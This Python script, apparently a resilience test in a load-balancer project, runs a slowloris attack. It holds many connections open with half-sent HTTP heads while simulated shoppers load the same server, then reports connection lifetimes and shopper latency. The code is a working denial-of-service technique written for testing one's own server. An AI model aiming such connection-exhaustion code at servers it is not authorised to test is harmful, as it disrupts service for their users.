"""A slowloris against the live balancer, with shoppers beside it.

    python3 scripts/slowloris.py STRATUS_BIN HOST:PORT N SECONDS

Opens N connections that send half a request head and stall, runs
`stratus load` (real shoppers) against the same address for SECONDS once
they are all open (or 10 s after the first, if the server leaves some
unconnected: past its cap and backlog, the kernel drops their SYNs and the
client retries), and watches each stalled connection until the server
closes it (EOF or reset). Prints how long they stayed open and what the
shoppers got. Standard library only.
"""

import errno
import json
import selectors
import socket
import statistics
import subprocess
import sys
import time

HALF_HEAD = b"GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: slow"


def main():
    binary, addr, n, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    host, port = addr.rsplit(":", 1)
    sel = selectors.DefaultSelector()
    sent, closed, refused, resets = {}, {}, 0, 0
    t0 = time.monotonic()
    for i in range(n):
        s = socket.socket()
        s.setblocking(False)
        err = s.connect_ex((host, int(port)))
        if err not in (0, errno.EINPROGRESS):
            refused += 1
            s.close()
            continue
        sel.register(s, selectors.EVENT_WRITE, i)
    load = None
    deadline = t0 + 600
    while sel.get_map() and time.monotonic() < deadline:
        if load is None and (len(sent) + refused == n or time.monotonic() - t0 > 10):
            at_start = len(sent)
            load = subprocess.Popen(
                [binary, "load", f"http://{addr}", "--rate", "5", "--duration", f"{secs}s",
                 "--think", "500ms", "--timeout", "10s", "--format", "json"],
                stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
            load_started = time.monotonic()
        for key, ev in sel.select(timeout=0.5):
            s, i = key.fileobj, key.data
            now = time.monotonic()
            if i not in sent:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    refused += 1
                    sel.unregister(s)
                    s.close()
                    continue
                s.send(HALF_HEAD)
                sent[i] = now
                sel.modify(s, selectors.EVENT_READ, i)
                continue
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
                resets += 1
            if not data:
                closed[i] = now - sent[i]
                sel.unregister(s)
                s.close()
    still = len(sel.get_map())
    report = json.loads(load.communicate()[0]) if load else None
    opened = sorted(closed.values())
    print(f"stalled connections: {len(sent)} sent half a head, {refused} not connected, "
          f"{len(closed)} closed by the server ({resets} of them by a reset), {still} still open at the end")
    if opened:
        q = statistics.quantiles(opened, n=100) if len(opened) > 1 else [opened[0]] * 99
        print(f"  time open until closed: min {opened[0]:.1f} s, median {statistics.median(opened):.1f} s, "
              f"p99 {q[98]:.1f} s, max {opened[-1]:.1f} s")
    if report:
        r, lat = report["requests"], report["latency_ms"]["all"]
        print(f"shoppers over {secs} s (started {load_started - t0:.1f} s in, with {at_start} stalled connections open): "
              f"{r['ok']} of {r['total']} requests ok, {r['failed']} failed {dict(r['errors'])}; "
              f"latency p50 {lat['p50']:.1f} ms, p99 {lat['p99']:.1f} ms, max {lat['max']:.1f} ms")


if __name__ == "__main__":
    main()
